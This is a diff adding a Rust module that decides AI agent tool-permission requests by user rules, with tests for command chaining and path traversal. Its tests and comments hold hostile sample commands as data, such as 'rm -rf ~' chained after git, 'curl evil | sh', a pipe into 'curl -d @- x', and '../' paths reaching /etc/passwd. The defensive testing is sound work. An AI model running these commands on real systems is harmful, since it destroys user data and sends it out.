@@ -0,0 +1,588 @@
+//! Server-side permission policy evaluation
+//!
+//! Users can define rules that answer tool permission requests without a
+//! human in the loop. Rules are evaluated before a request is forwarded to web
+//! clients; the first matching rule wins. Session-scoped rules are checked
+//! before user-wide ones, then by descending priority, then oldest first.
+
+use dashmap::DashMap;
+use diesel::prelude::*;
+use globset::{GlobBuilder, GlobMatcher};
+use regex::Regex;
+use shared::api::{PermissionTimeoutAction, PermissionVerdict};
+use std::sync::{Arc, LazyLock};
+use tracing::warn;
+use uuid::Uuid;
+
+use crate::models::PermissionRule;
+use crate::schema::permission_rules;
+
+/// Tools that always need a human answer and are never decided by policy
+const INTERACTIVE_TOOLS: &[&str] = &["AskUserQuestion"];
+
+/// Shell syntax that runs more than one command. A command containing any of
+/// these is never auto-allowed, whatever its first command looks like.
+const SHELL_CONTROL: &[&str] = &[";", "&", "|", "`", "$(", "\n", "\r"];
+
+/// Compiled patterns by rule id, so a rule is compiled once rather than on
+/// every permission request. Entries are replaced when the rule is edited.
+static COMPILED_RULES: LazyLock<DashMap<Uuid, Arc<CompiledRule>>> = LazyLock::new(DashMap::new);
+
+/// A rule's patterns as compiled for the rule's `updated_at`
+struct CompiledRule {
+    updated_at: chrono::NaiveDateTime,
+    /// `Err` when a stored pattern no longer compiles; such a rule never matches
+    patterns: Result<Patterns, String>,
+}
+
+/// `None` for a pattern the rule doesn't set
+struct Patterns {
+    tool: GlobMatcher,
+    path: Option<GlobMatcher>,
+    command: Option<Regex>,
+}
+
+/// The outcome of evaluating a request against a user's rules
+#[derive(Debug, Clone, PartialEq)]
+pub struct PolicyDecision {
+    pub rule_id: Uuid,
+    pub verdict: PermissionVerdict,
+    /// Human-readable summary of the rule that matched
+    pub rule_summary: String,
+}
+
+/// Load the rules that apply to a session, in evaluation order.
+pub fn load_rules(
+    conn: &mut PgConnection,
+    user_id: Uuid,
+    session_id: Uuid,
+) -> QueryResult<Vec<PermissionRule>> {
+    permission_rules::table
+        .filter(permission_rules::user_id.eq(user_id))
+        .filter(
+            permission_rules::session_id
+                .is_null()
+                .or(permission_rules::session_id.eq(session_id)),
+        )
+        .order((
+            permission_rules::session_id.is_null().asc(),
+            permission_rules::priority.desc(),
+            permission_rules::created_at.asc(),
+        ))
+        .load(conn)
+}
+
+/// Check that a rule's patterns compile before it is stored.
+pub fn validate_rule(
+    tool_name: &str,
+    path_glob: Option<&str>,
+    command_regex: Option<&str>,
+) -> Result<(), &'static str> {
+    if tool_name.trim().is_empty() {
+        return Err("Tool name is required");
+    }
+    compile_glob(tool_name).map_err(|_| "Invalid tool name pattern")?;
+    if let Some(glob) = path_glob {
+        compile_glob(glob).map_err(|_| "Invalid path glob")?;
+    }
+    if let Some(re) = command_regex {
+        Regex::new(re).map_err(|_| "Invalid command regex")?;
+    }
+    Ok(())
+}
+
+/// Evaluate already-ordered rules against a tool call.
+///
+/// Returns `None` when no rule matches or the tool is interactive, in which
+/// case the request should be forwarded to web clients as usual. An `Ask`
+/// verdict is returned as a decision so callers can stop evaluating, but it
+/// still results in the request being forwarded.
+pub fn evaluate(
+    rules: &[PermissionRule],
+    tool_name: &str,
+    input: &serde_json::Value,
+    working_directory: Option<&str>,
+) -> Option<PolicyDecision> {
+    if INTERACTIVE_TOOLS.contains(&tool_name) {
+        return None;
+    }
+
+    rules
+        .iter()
+        .find(|rule| rule_matches(rule, tool_name, input, working_directory))
+        .and_then(|rule| {
+            let Ok(verdict) = rule.verdict.parse::<PermissionVerdict>() else {
+                warn!(
+                    "Permission rule {} has unknown verdict '{}'",
+                    rule.id, rule.verdict
+                );
+                return None;
+            };
+            Some(PolicyDecision {
+                rule_id: rule.id,
+                verdict,
+                rule_summary: describe_rule(rule),
+            })
+        })
+}
+
+/// Drop a deleted rule's compiled patterns.
+pub fn forget_rule(rule_id: Uuid) {
+    COMPILED_RULES.remove(&rule_id);
+}
+
+/// Describe a rule in a single line, e.g. "Bash with command matching `^git `".
+pub fn describe_rule(rule: &PermissionRule) -> String {
+    let mut summary = rule.tool_name.clone();
+    if let Some(ref glob) = rule.path_glob {
+        summary.push_str(&format!(" on paths matching `{}`", glob));
+    }
+    if let Some(ref re) = rule.command_regex {
+        summary.push_str(&format!(" with command matching `{}`", re));
+    }
+    if rule.session_id.is_some() {
+        summary.push_str(" (this session)");
+    }
+    if let Some(ref description) = rule.description {
+        if !description.trim().is_empty() {
+            summary.push_str(&format!(" — {}", description.trim()));
+        }
+    }
+    summary
+}
+
+/// The timeout that applies to a session's permission requests
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct EffectiveTimeout {
+    pub seconds: i32,
+    pub action: PermissionTimeoutAction,
+    /// True when the setting comes from the session's scheduled task
+    pub inherited: bool,
+}
+
+/// Resolve a session's permission timeout. The session's own setting wins;
+/// otherwise the scheduled task's default applies. `None` means requests wait
+/// for an answer indefinitely.
+pub fn effective_timeout(
+    session_seconds: Option<i32>,
+    session_action: Option<&str>,
+    task_default: Option<(Option<i32>, &str)>,
+) -> Option<EffectiveTimeout> {
+    if let Some(seconds) = session_seconds {
+        return Some(EffectiveTimeout {
+            seconds,
+            action: session_action
+                .and_then(|a| a.parse().ok())
+                .unwrap_or_default(),
+            inherited: false,
+        });
+    }
+    let (task_seconds, task_action) = task_default?;
+    Some(EffectiveTimeout {
+        seconds: task_seconds?,
+        action: task_action.parse().unwrap_or_default(),
+        inherited: true,
+    })
+}
+
+fn rule_matches(
+    rule: &PermissionRule,
+    tool_name: &str,
+    input: &serde_json::Value,
+    working_directory: Option<&str>,
+) -> bool {
+    let compiled = compiled(rule);
+    let patterns = match compiled.patterns {
+        Ok(ref patterns) => patterns,
+        Err(ref e) => {
+            warn!("Permission rule {} has an invalid pattern: {}", rule.id, e);
+            return false;
+        }
+    };
+    if !patterns.tool.is_match(tool_name) {
+        return false;
+    }
+    let allows = rule.verdict.parse() == Ok(PermissionVerdict::Allow);
+
+    if let Some(ref matcher) = patterns.path {
+        let Some(raw_path) = tool_path(input) else {
+            return false;
+        };
+        // A relative path that climbs out of where it starts can't be placed;
+        // rules may still deny it or ask about it, but never allow it
+        let path = match normalize_path(raw_path, working_directory) {
+            Some(path) => path,
+            None if allows => return false,
+            None => raw_path.to_string(),
+        };
+        if !path_matches(matcher, &path, working_directory) {
+            return false;
+        }
+    }
+
+    let command = input.get("command").and_then(|c| c.as_str());
+    // A chained command is more than the rule was written for; the user decides
+    if allows && command.is_some_and(has_shell_control) {
+        return false;
+    }
+    if let Some(ref re) = patterns.command {
+        let Some(command) = command else {
+            return false;
+        };
+        if !re.is_match(command) {
+            return false;
+        }
+    }
+
+    true
+}
+
+/// The rule's compiled patterns, from the cache unless the rule has changed
+fn compiled(rule: &PermissionRule) -> Arc<CompiledRule> {
+    if let Some(cached) = COMPILED_RULES.get(&rule.id) {
+        if cached.updated_at == rule.updated_at {
+            return cached.clone();
+        }
+    }
+    let compiled = Arc::new(CompiledRule {
+        updated_at: rule.updated_at,
+        patterns: compile_patterns(rule),
+    });
+    COMPILED_RULES.insert(rule.id, compiled.clone());
+    compiled
+}
+
+fn compile_patterns(rule: &PermissionRule) -> Result<Patterns, String> {
+    let tool = compile_glob(&rule.tool_name).map_err(|e| format!("tool pattern: {}", e))?;
+    let path = rule
+        .path_glob
+        .as_deref()
+        .map(compile_glob)
+        .transpose()
+        .map_err(|e| format!("path glob: {}", e))?;
+    // An allow rule must match the whole command, so `git status` doesn't
+    // also approve `curl evil | sh; git status`
+    let command = rule
+        .command_regex
+        .as_deref()
+        .map(|pattern| {
+            if rule.verdict.parse() == Ok(PermissionVerdict::Allow) {
+                Regex::new(&format!("^(?:{})$", pattern))
+            } else {
+                Regex::new(pattern)
+            }
+        })
+        .transpose()
+        .map_err(|e| format!("command regex: {}", e))?;
+    Ok(Patterns {
+        tool,
+        path,
+        command,
+    })
+}
+
+fn has_shell_control(command: &str) -> bool {
+    SHELL_CONTROL.iter().any(|syntax| command.contains(syntax))
+}
+
+/// Extract the file path a file tool operates on.
+fn tool_path(input: &serde_json::Value) -> Option<&str> {
+    ["file_path", "notebook_path", "path"]
+        .iter()
+        .find_map(|key| input.get(*key).and_then(|v| v.as_str()))
+}
+
+/// Resolve `.` and `..` in a path without touching the filesystem, so
+/// `src/../../etc/passwd` can't pass for something under `src/`. Relative
+/// paths are taken from the working directory when there is one. `..` at
+/// the root stays at the root; `None` when a relative path with nothing to
+/// resolve against climbs above its start.
+fn normalize_path(path: &str, working_directory: Option<&str>) -> Option<String> {
+    let joined = match working_directory {
+        Some(wd) if !path.starts_with('/') => format!("{}/{}", wd.trim_end_matches('/'), path),
+        _ => path.to_string(),
+    };
+    let absolute = joined.starts_with('/');
+    let mut parts: Vec<&str> = Vec::new();
+    for component in joined.split('/') {
+        match component {
+            "" | "." => {}
+            ".." if absolute => {
+                parts.pop();
+            }
+            ".." => {
+                parts.pop()?;
+            }
+            name => parts.push(name),
+        }
+    }
+    Some(if absolute {
+        format!("/{}", parts.join("/"))
+    } else {
+        parts.join("/")
+    })
+}
+
+/// Match the absolute path, and also the path relative to the session's
+/// working directory so rules like `src/**` work as expected. `path` is
+/// already normalized.
+fn path_matches(matcher: &GlobMatcher, path: &str, working_directory: Option<&str>) -> bool {
+    if matcher.is_match(path) {
+        return true;
+    }
+    working_directory
+        .and_then(|wd| normalize_path(wd, None))
+        .and_then(|wd| {
+            path.strip_prefix(wd.trim_end_matches('/'))
+                .and_then(|rest| rest.strip_prefix('/'))
+                .map(str::to_string)
+        })
+        .is_some_and(|relative| matcher.is_match(relative))
+}
+
+fn compile_glob(pattern: &str) -> Result<GlobMatcher, globset::Error> {
+    Ok(GlobBuilder::new(pattern)
+        .literal_separator(true)
+        .build()?
+        .compile_matcher())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn rule(tool_name: &str, verdict: &str) -> PermissionRule {
+        let now = chrono::Utc::now().naive_utc();
+        PermissionRule {
+            id: Uuid::new_v4(),
+            user_id: Uuid::new_v4(),
+            session_id: None,
+            tool_name: tool_name.to_string(),
+            path_glob: None,
+            command_regex: None,
+            verdict: verdict.to_string(),
+            priority: 0,
+            description: None,
+            created_at: now,
+            updated_at: now,
+        }
+    }
+
+    #[test]
+    fn test_tool_name_glob() {
+        let rules = vec![rule("mcp__github__*", "allow")];
+        let decision = evaluate(&rules, "mcp__github__list_prs", &json!({}), None).unwrap();
+        assert_eq!(decision.verdict, PermissionVerdict::Allow);
+        assert!(evaluate(&rules, "Bash", &json!({}), None).is_none());
+    }
+
+    #[test]
+    fn test_command_regex() {
+        let mut r = rule("Bash", "allow");
+        r.command_regex = Some(r"^git (status|diff)\b".to_string());
+        let rules = vec![r];
+        assert!(evaluate(&rules, "Bash", &json!({"command": "git status"}), None).is_some());
+        assert!(evaluate(&rules, "Bash", &json!({"command": "git push"}), None).is_none());
+        assert!(evaluate(&rules, "Bash", &json!({}), None).is_none());
+    }
+
+    #[test]
+    fn test_allow_regex_matches_whole_command() {
+        let mut r = rule("Bash", "allow");
+        r.command_regex = Some("git status".to_string());
+        let rules = vec![r];
+        assert!(evaluate(&rules, "Bash", &json!({"command": "git status"}), None).is_some());
+        assert!(evaluate(&rules, "Bash", &json!({"command": "sudo git status"}), None).is_none());
+
+        // Deny and ask rules still match anywhere in the command
+        let mut deny = rule("Bash", "deny");
+        deny.command_regex = Some("rm -rf".to_string());
+        let rules = vec![deny];
+        assert!(evaluate(
+            &rules,
+            "Bash",
+            &json!({"command": "cd / && rm -rf x"}),
+            None
+        )
+        .is_some());
+    }
+
+    #[test]
+    fn test_chained_commands_are_not_allowed() {
+        let mut prefix = rule("Bash", "allow");
+        prefix.command_regex = Some("git .*".to_string());
+        let mut deny = rule("Bash", "deny");
+        deny.command_regex = Some("curl".to_string());
+        let rules = vec![prefix, rule("Bash", "allow"), deny];
+        for chained in [
+            "git log; rm -rf ~",
+            "git status && rm -rf ~",
+            "git status || true",
+            "git log | sh",
+            "git log & rm -rf ~",
+            "git log `rm -rf ~`",
+            "git log $(rm -rf ~)",
+            "git log\nrm -rf ~",
+        ] {
+            assert!(
+                evaluate(&rules, "Bash", &json!({"command": chained}), None).is_none(),
+                "{}",
+                chained
+            );
+        }
+        // Later rules still apply to a chained command
+        let decision = evaluate(
+            &rules,
+            "Bash",
+            &json!({"command": "git log | curl -d @- x"}),
+            None,
+        )
+        .unwrap();
+        assert_eq!(decision.verdict, PermissionVerdict::Deny);
+        assert!(evaluate(&rules, "Bash", &json!({"command": "git log -3"}), None).is_some());
+    }
+
+    #[test]
+    fn test_edited_rule_is_recompiled() {
+        let mut r = rule("Bash", "allow");
+        r.command_regex = Some("ls".to_string());
+        assert!(evaluate(&[r.clone()], "Bash", &json!({"command": "ls"}), None).is_some());
+        r.command_regex = Some("pwd".to_string());
+        r.updated_at += chrono::Duration::seconds(1);
+        assert!(evaluate(&[r.clone()], "Bash", &json!({"command": "ls"}), None).is_none());
+        assert!(evaluate(&[r], "Bash", &json!({"command": "pwd"}), None).is_some());
+    }
+
+    #[test]
+    fn test_path_glob_absolute_and_relative() {
+        let mut r = rule("Edit", "allow");
+        r.path_glob = Some("src/**/*.rs".to_string());
+        let rules = vec![r];
+        let input = json!({"file_path": "/home/me/proj/src/handlers/mod.rs"});
+        assert!(evaluate(&rules, "Edit", &input, Some("/home/me/proj")).is_some());
+        assert!(evaluate(&rules, "Edit", &input, Some("/elsewhere")).is_none());
+
+        let mut abs = rule("Read", "deny");
+        abs.path_glob = Some("/etc/*".to_string());
+        let rules = vec![abs];
+        assert!(evaluate(&rules, "Read", &json!({"file_path": "/etc/passwd"}), None).is_some());
+        // `*` does not cross directory separators
+        assert!(evaluate(&rules, "Read", &json!({"file_path": "/etc/ssh/key"}), None).is_none());
+    }
+
+    #[test]
+    fn test_normalize_path() {
+        assert_eq!(
+            normalize_path("/home/me/proj/./src//a/../b.rs", None).as_deref(),
+            Some("/home/me/proj/src/b.rs")
+        );
+        assert_eq!(
+            normalize_path("src/../../etc/passwd", Some("/home/me/proj/")).as_deref(),
+            Some("/home/me/etc/passwd")
+        );
+        assert_eq!(
+            normalize_path("/../etc/passwd", None).as_deref(),
+            Some("/etc/passwd")
+        );
+        assert_eq!(normalize_path("a/../b", None).as_deref(), Some("b"));
+        assert_eq!(normalize_path("../etc/passwd", None), None);
+    }
+
+    #[test]
+    fn test_path_glob_traversal() {
+        let mut allow = rule("Read", "allow");
+        allow.path_glob = Some("src/**".to_string());
+        let rules = vec![allow];
+        let wd = Some("/home/me/proj");
+        for escape in [
+            "/home/me/proj/src/../../../etc/passwd",
+            "/home/me/proj/src/../Cargo.toml",
+            "src/../../../etc/passwd",
+        ] {
+            assert!(
+                evaluate(&rules, "Read", &json!({"file_path": escape}), wd).is_none(),
+                "{}",
+                escape
+            );
+        }
+        assert!(evaluate(&rules, "Read", &json!({"file_path": "src/./lib.rs"}), wd).is_some());
+
+        let mut allow_abs = rule("Read", "allow");
+        allow_abs.path_glob = Some("/home/me/proj/**".to_string());
+        let rules = vec![allow_abs];
+        let escape = json!({"file_path": "/home/me/proj/../../../etc/passwd"});
+        assert!(evaluate(&rules, "Read", &escape, None).is_none());
+        // A relative path with nowhere to resolve from is never allowed
+        let mut allow_any = rule("Read", "allow");
+        allow_any.path_glob = Some("**".to_string());
+        let rules = vec![allow_any];
+        assert!(evaluate(&rules, "Read", &json!({"file_path": "../secret"}), None).is_none());
+
+        // Deny rules see through traversal
+        let mut deny = rule("Read", "deny");
+        deny.path_glob = Some("/etc/*".to_string());
+        let rules = vec![deny];
+        let sneaky = json!({"file_path": "/home/me/proj/src/../../../../etc/passwd"});
+        let decision = evaluate(&rules, "Read", &sneaky, wd).unwrap();
+        assert_eq!(decision.verdict, PermissionVerdict::Deny);
+    }
+
+    #[test]
+    fn test_first_match_wins() {
+        let mut ask = rule("Bash", "ask");
+        ask.command_regex = Some("rm ".to_string());
+        let rules = vec![ask, rule("Bash", "allow")];
+        let decision = evaluate(&rules, "Bash", &json!({"command": "rm -rf x"}), None).unwrap();
+        assert_eq!(decision.verdict, PermissionVerdict::Ask);
+        let decision = evaluate(&rules, "Bash", &json!({"command": "ls"}), None).unwrap();
+        assert_eq!(decision.verdict, PermissionVerdict::Allow);
+    }
+
+    #[test]
+    fn test_interactive_tools_are_never_decided() {
+        let rules = vec![rule("*", "allow")];
+        assert!(evaluate(&rules, "AskUserQuestion", &json!({}), None).is_none());
+    }
+
+    #[test]
+    fn test_validate_rule() {
+        assert!(validate_rule("Bash", None, Some("^ls")).is_ok());
+        assert!(validate_rule("", None, None).is_err());
+        assert!(validate_rule("Bash", None, Some("(unclosed")).is_err());
+        assert!(validate_rule("Edit", Some("src/["), None).is_err());
+    }
+
+    #[test]
+    fn test_effective_timeout() {
+        assert_eq!(effective_timeout(None, None, None), None);
+        assert_eq!(effective_timeout(None, None, Some((None, "allow"))), None);
+
+        let inherited = effective_timeout(None, None, Some((Some(120), "escalate"))).unwrap();
+        assert_eq!(inherited.seconds, 120);
+        assert_eq!(inherited.action, PermissionTimeoutAction::Escalate);
+        assert!(inherited.inherited);
+
+        // The session's own setting overrides the task default
+        let own =
+            effective_timeout(Some(30), Some("allow"), Some((Some(120), "escalate"))).unwrap();
+        assert_eq!(own.seconds, 30);
+        assert_eq!(own.action, PermissionTimeoutAction::Allow);
+        assert!(!own.inherited);
+
+        // Unknown actions fall back to deny
+        let unknown = effective_timeout(Some(30), Some("bogus"), None).unwrap();
+        assert_eq!(unknown.action, PermissionTimeoutAction::Deny);
+    }
+
+    #[test]
+    fn test_describe_rule() {
+        let mut r = rule("Bash", "allow");
+        r.command_regex = Some("^ls".to_string());
+        r.description = Some("listing is harmless".to_string());
+        assert_eq!(
+            describe_rule(&r),
+            "Bash with command matching `^ls` — listing is harmless"
+        );
+    }
+}